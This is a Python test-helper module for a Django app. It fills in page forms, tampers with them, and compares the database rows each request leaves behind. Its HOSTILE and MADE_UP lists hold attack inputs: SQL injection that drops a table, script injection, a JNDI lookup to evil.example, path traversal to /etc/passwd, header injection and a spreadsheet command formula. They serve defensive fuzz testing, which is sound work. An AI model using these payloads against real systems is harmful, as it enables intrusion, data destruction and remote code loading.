"""What may be done to a request by someone who means ill, and what a request left behind in the database.

Forms are filled in as a browser would from the page that holds them, so that a new form is tampered with
without anyone writing it down here. What must not happen is asserted by the tests.
"""

import re
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

from django.contrib.auth.hashers import UNUSABLE_PASSWORD_PREFIX
from django.db import connection, transaction

from kinfold.kit import clock

WORDS = "Invented words, long enough to be understood"
KNOWN = {"postcode": "QS1 1AA", "fte": "0.6", "given_names": "Invented", "family_name": "Words"}
A_WEEK = timedelta(days=7)
WRITES = re.compile(
    r'\s*(insert(?: or \w+)? into|replace into|update|delete from)\s+"?(\w+)"?', re.IGNORECASE
)
# What every look writes, or refreshes, whatever is asked.
ALWAYS = frozenset(
    {
        *("audit_auditevent", "audit_auditsegment", "audit_subject", "django_session"),
        *("accounts_opensession", "accounts_failedsignins"),
    }
)
EXTRAS = (
    *("is_active", "is_demo", "is_staff", "is_superuser", "role", "agency", "agency_id", "sector"),
    *("family", "family_id", "worker", "worker_id", "by", "by_id", "author", "author_id", "user", "user_id"),
    *("person", "person_id", "id", "pk", "starts_at", "ends_at", "at", "written_at", "happened_at"),
    *("level", "section", "standing", "leads", "purpose", "proved", "manner", "to", "to_role", "about_id"),
    *("reviewed_by", "outcome", "withdrawn", "replaces", "occurrence", "kept", "next", "rule", "decision"),
)
HOSTILE = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "'; drop table families_family; --",
    "' or '1'='1",
    "<script>alert(1)</script>",
    "{{ 7*7 }}{% debug %}",
    "%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\r\nSet-Cookie: kinfold=x",
    "\u202e\u200b\ufeff",
    "\U0001f9d9" * 40,
    "\u0660\u0661\u0662",
    "e\u0301" * 500,
    "-1",
    "0",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "true",
    "null",
    "[]",
    '{"a": {"b": []}}',
    "2026-02-30",
    "9999-12-31",
    "x" * 10_000,
    "9" * 5_000,
    "=cmd|'/c calc'!A1",
)
MADE_UP = (
    *(
        "f0000000000000000",
        "F0000000000000000",
        "f00000000000000",
        "f" * 17,
        "f-1",
        "0",
        "-1",
        "None",
        "null",
    ),
    *(
        "null",
        "%00",
        "f%000000",
        "..",
        "%2e%2e",
        "../people",
        "..%2f..%2fpeople",
        "a/b",
        "%2F",
        "%C0%AE%C0%AE",
    ),
    *("%E2%80%AE", "%F0%9F%A7%99", "f٠٠٠", "ｆ0000000000000000", "'", "%27%20or%201=1--", "<b>", "%3Cb%3E"),
    *("%", "%zz", "%ff%fe", "*", "?", ";", "f0000000000000000;x", "f0000000000000000%20", "x" * 10_000),
    *("_", "-", "F", "f0000000000000000%0a", "%0d%0aSet-Cookie:x", "~", "$", "{}", "f0000000000000000."),
)


@dataclass
class Filled:
    """A form as it would be sent: its address, its fields, and what kind each field is of."""

    action: str
    method: str
    fields: dict[str, list[str]] = field(default_factory=dict)
    kinds: dict[str, str] = field(default_factory=dict)

    def put(self, name: str, kind: str, value: str) -> None:
        """Take a field in; of several with one name of which one is chosen, the first."""
        if kind in {"radio", "select"} and name in self.fields:
            return
        self.fields.setdefault(name, []).append(value)
        self.kinds[name] = kind


class _Forms(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[Filled] = []
        self._open: Filled | None = None
        self._select = self._area = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        at = {name: text or "" for name, text in attrs}
        if tag == "form":
            self._open = Filled(at.get("action", ""), at.get("method", "get").lower())
            self.found.append(self._open)
        elif self._open is not None:
            self._take(self._open, tag, at)

    def _take(self, into: Filled, tag: str, at: dict[str, str]) -> None:
        name, kind = at.get("name", ""), at.get("type", "text")
        if tag == "select":
            self._select = name
        elif tag == "option" and self._select and at.get("value"):
            into.put(self._select, "select", at["value"])
        elif tag == "textarea" and name:
            into.put(name, "textarea", WORDS)
        elif name == "csrfmiddlewaretoken":
            return  # sent with every form
        elif tag in {"input", "button"} and name and kind not in {"submit", "file"}:
            into.put(name, kind, at.get("value") or typed(name, kind))
        elif tag == "button" and name:
            into.put(name, "hidden", at.get("value", ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._open = None
        elif tag == "select":
            self._select = ""


def typed(name: str, kind: str) -> str:
    """Give what someone would type into a box of this name."""
    if name.startswith(("died", "expected")):
        return ""
    on = clock.today() + A_WEEK * name.startswith("ends")
    for part, value in (("day", on.day), ("month", on.month), ("year", on.year), ("phone", "01632 960123")):
        if name.endswith(part):
            return str(value)
    if name.endswith(("at", "time")) and len(name) <= 12:
        return "10:30"
    if kind == "radio":
        return ""
    return KNOWN.get(name) or ("on" if kind == "checkbox" else WORDS)


def forms_of(page: str) -> list[Filled]:
    """Give the forms of a page, filled in; those that only search or sign out are left out."""
    parser = _Forms()
    parser.feed(page)
    return [each for each in parser.found if each.method == "post" and "sign-out" not in each.action]


Rows = dict[tuple[Any, ...], dict[str, Any]]


@dataclass
class Left:
    """What a request left behind: rows added and rows gone, by table; and how many audit entries."""

    added: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    gone: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    entries: int = 0

    @property
    def tables(self) -> set[str]:
        """Every table that is not as it was, but for those that each look writes."""
        return set(self.added) | set(self.gone)


class _Writes:
    """Notes which tables statements write to."""

    def __init__(self) -> None:
        self.tables: set[str] = set()
        self.entries = 0

    def __call__(self, execute: Any, sql: str, params: Any, many: bool, context: Any) -> Any:
        if found := WRITES.match(sql):
            self.tables.add(found[2])
            self.entries += found[2] == "audit_auditevent" and found[1].lower().startswith("insert")
        return execute(sql, params, many, context)


@contextmanager
def leaving() -> Iterator[Left]:
    """Undo whatever happens inside, and tell afterwards what it would have left behind."""
    left, writes = Left(), _Writes()
    with transaction.atomic():
        with connection.execute_wrapper(writes):
            yield left
        left.entries = writes.entries
        after = {table: _rows(table) for table in writes.tables - ALWAYS}
        transaction.set_rollback(True)
    for table, rows in after.items():
        before = _before(table)
        left.added[table] = [row for key, row in rows.items() if key not in before]
        left.gone[table] = [row for key, row in before.items() if key not in rows]
    for told in (left.added, left.gone):
        for table in [table for table, rows in told.items() if not rows]:
            del told[table]


_BEFORE: dict[str, Rows] = {}


def _before(table: str) -> Rows:
    """Give a table's rows as they are whenever nothing is under way, for all of it is undone each time."""
    if table not in _BEFORE:
        _BEFORE[table] = _rows(table)
    return _BEFORE[table]


def _rows(table: str) -> Rows:
    """Give a table's rows by all that they hold: a row that was changed is one gone and one added."""
    with connection.cursor() as cursor:
        cursor.execute(f'select * from "{table}"')  # a name from our own statements
        names = [column[0] for column in cursor.description]
        return {tuple(row): dict(zip(names, row, strict=True)) for row in cursor.fetchall()}


# What is made anew each time: keys, moments, digests.
VOLATILE = ("_at", "digest", "kept", "token", "occurrence", "reference", "key", "event_id", "entry", "line")


def same(one: Left, other: Left) -> bool:
    """Say whether two requests left the same behind, but for what is made anew each time."""
    return _steady(one.added) == _steady(other.added) and _steady(one.gone) == _steady(other.gone)


def differing(one: Left, other: Left) -> str:
    """Tell where two requests differ in what they left behind."""
    told: list[str] = []
    for mine, its in ((_steady(one.added), _steady(other.added)), (_steady(one.gone), _steady(other.gone))):
        told += [
            f"{table}: {mine.get(table)} and {its.get(table)}"
            for table in sorted(set(mine) | set(its))
            if mine.get(table) != its.get(table)
        ]
    return "; ".join(told)


def _steady(rows: Mapping[str, list[dict[str, Any]]]) -> dict[str, list[list[tuple[str, str]]]]:
    fresh = {str(row["id"]) for found in rows.values() for row in found if "id" in row}
    return {
        table: sorted(
            [
                (name, _as_text(value, fresh))
                for name, value in sorted(row.items())
                if name not in {"id", "at"} and not name.endswith(VOLATILE)
            ]
            for row in found
        )
        for table, found in rows.items()
    }


def _as_text(value: Any, fresh: set[str]) -> str:
    """Give a value as text; of a password that can never fit, and of a key made anew, only what it is."""
    text = str(value)
    if text.startswith(UNUSABLE_PASSWORD_PREFIX):
        return UNUSABLE_PASSWORD_PREFIX
    return "a new one" if text in fresh and not text.isdigit() else text
